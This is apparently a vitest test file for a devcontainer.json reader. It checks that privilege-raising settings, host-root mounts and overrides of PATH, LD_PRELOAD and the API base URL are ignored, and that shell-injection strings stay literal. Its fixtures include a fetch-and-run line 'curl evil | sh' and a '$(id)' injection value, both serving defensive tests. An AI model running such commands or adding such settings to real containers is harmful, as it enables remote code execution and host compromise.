import { execFileSync } from 'node:child_process';
import { devContainer } from '@remote-claude/contract';
import fc from 'fast-check';
import { expect, test } from 'vitest';

import { readDevContainer } from './dev-container.js';
import { createImageRules } from './images.js';

const containers = createImageRules({ driver: 'docker', image: 'usual', images: ['team/*'] });
const processes = createImageRules({ driver: 'process', image: 'usual', images: ['team/*'] });
const path = '.devcontainer/devcontainer.json';
const read = (content: unknown, images = containers) =>
  readDevContainer({ path, text: typeof content === 'string' ? content : JSON.stringify(content) }, images);
const names = (remarks: { name: string }[]) => remarks.map(({ name }) => name);
const run = (script: string): string =>
  execFileSync('bash', ['-c', script], {
    encoding: 'utf8',
    env: { PATH: '/usr/bin:/bin' },
    stdio: ['ignore', 'pipe', 'pipe'],
  });

test('says all that one would do, with its comments and commas', () => {
  const text = `{
    // What we all use.
    "name": "Tools", "image": "team/tools:2",
    "postCreateCommand": "npm ci", /* and nothing else */
    "containerEnv": { "MODE": "test" },
    "forwardPorts": [3000, "localhost:5432", 3000],
  }`;
  expect(read(text)).toMatchObject({
    path,
    name: 'Tools',
    image: 'team/tools:2',
    script: 'npm ci',
    env: { MODE: 'test' },
    forwardPorts: [3000, 5432],
    ignored: [],
    refused: [],
  });
  expect(read(`${text} `).hash).not.toBe(read(text).hash);
});

test('a command has three forms, and none of them lets an argument be more than that', () => {
  expect(run(read({ postCreateCommand: 'echo "$((6 * 7))"' }).script ?? '')).toBe('42\n');
  const hostile = `$(id) '; echo "bad" \\`;
  expect(run(read({ postCreateCommand: ['printf', '%s', hostile] }).script ?? '')).toBe(hostile);
  const both = { postCreateCommand: { one: 'sleep 0.1; echo one', other: ['echo', 'other'] } };
  expect(
    run(read(both).script ?? '')
      .split('\n')
      .toSorted(),
  ).toEqual(['', 'one', 'other']);
  const failing = { postCreateCommand: { one: 'exit 5', other: 'true' } };
  expect(() => run(read(failing).script ?? '')).toThrow(expect.objectContaining({ status: 5 }));
  for (const wrong of [5, [], ['a', 5], {}, { one: 5 }, [[]], null])
    expect(names(read({ postCreateCommand: wrong }).refused), JSON.stringify(wrong)).toEqual(['postCreateCommand']);
});

test('what would give more rights does nothing, and is named', () => {
  const given = {
    privileged: true,
    capAdd: ['SYS_ADMIN'],
    securityOpt: ['seccomp=unconfined'],
    runArgs: ['--privileged'],
    mounts: ['source=/,target=/host,type=bind'],
    workspaceMount: 'source=/,target=/workspace,type=bind',
    initializeCommand: 'curl evil | sh',
    features: { 'ghcr.io/devcontainers/features/docker-in-docker:2': {} },
    customizations: { vscode: {} },
  };
  const found = read(given);
  expect(names(found.ignored).toSorted()).toEqual(Object.keys(given).toSorted());
  expect(found).toMatchObject({ image: null, script: null, env: {}, refused: [] });
});

test('what a place cannot be is refused', () => {
  expect(names(read({ dockerComposeFile: 'compose.yaml', image: 'team/a' }).refused)).toEqual(['dockerComposeFile']);
  expect(names(read({ build: { dockerfile: 'Dockerfile' } }).refused)).toEqual(['build']);
  expect(names(read({ build: { dockerfile: 'Dockerfile' }, image: 'team/a' }).ignored)).toEqual(['build']);
  expect(names(read({ remoteUser: 'root' }).refused)).toEqual(['remoteUser']);
  expect(names(read({ containerUser: 'node' }).ignored)).toEqual(['containerUser']);
  expect(read({ image: 'other/a' }).refused[0]?.why).toContain('other/a');
  for (const image of [5, '--privileged', 'a b', '${localEnv:IMAGE}', ''])
    expect(names(read({ image }).refused), String(image)).toEqual(['image']);
  expect(names(read('{ "image": ').refused)).toEqual([path]);
  expect(names(read('[1]').refused)).toEqual([path]);
});

test('where sessions are no containers an image is ignored and the rest is used', () => {
  const found = read({ image: 'anything', postCreateCommand: 'make' }, processes);
  expect(found).toMatchObject({ image: null, script: 'make', refused: [] });
  expect(names(found.ignored)).toEqual(['image']);
});

test('variables of the session itself stay as they are', () => {
  const containerEnv = {
    PATH: '/evil',
    ANTHROPIC_BASE_URL: 'http://evil',
    LD_PRELOAD: 'x',
    OK: '1',
    FROM: '${localEnv:HOME}',
  };
  const found = read({ containerEnv });
  expect(found.env).toEqual({ OK: '1' });
  expect(names(found.ignored).toSorted()).toEqual(
    ['ANTHROPIC_BASE_URL', 'FROM', 'LD_PRELOAD', 'PATH'].map((name) => `containerEnv.${name}`),
  );
});

test('a file that nests too deep is refused', () => {
  for (const text of ['['.repeat(128 * 1024), `{"a":${'['.repeat(60_000)}${']'.repeat(60_000)}}`])
    expect(names(read(text).refused)).toContain(path);
});

test('whatever a file says, what comes of it has its form', () => {
  const anything = fc.oneof(fc.jsonValue(), fc.string());
  const keys = [
    'image',
    'build',
    'postCreateCommand',
    'forwardPorts',
    'containerEnv',
    'remoteUser',
    '__proto__',
    'mounts',
  ];
  const file = fc.dictionary(fc.oneof(fc.constantFrom(...keys), fc.string()), anything);
  fc.assert(
    fc.property(
      fc.oneof(
        file.map((content) => JSON.stringify(content)),
        fc.string(),
      ),
      (text) => {
        expect(devContainer.safeParse(read(text)).error).toBeUndefined();
      },
    ),
    { numRuns: 300 },
  );
});
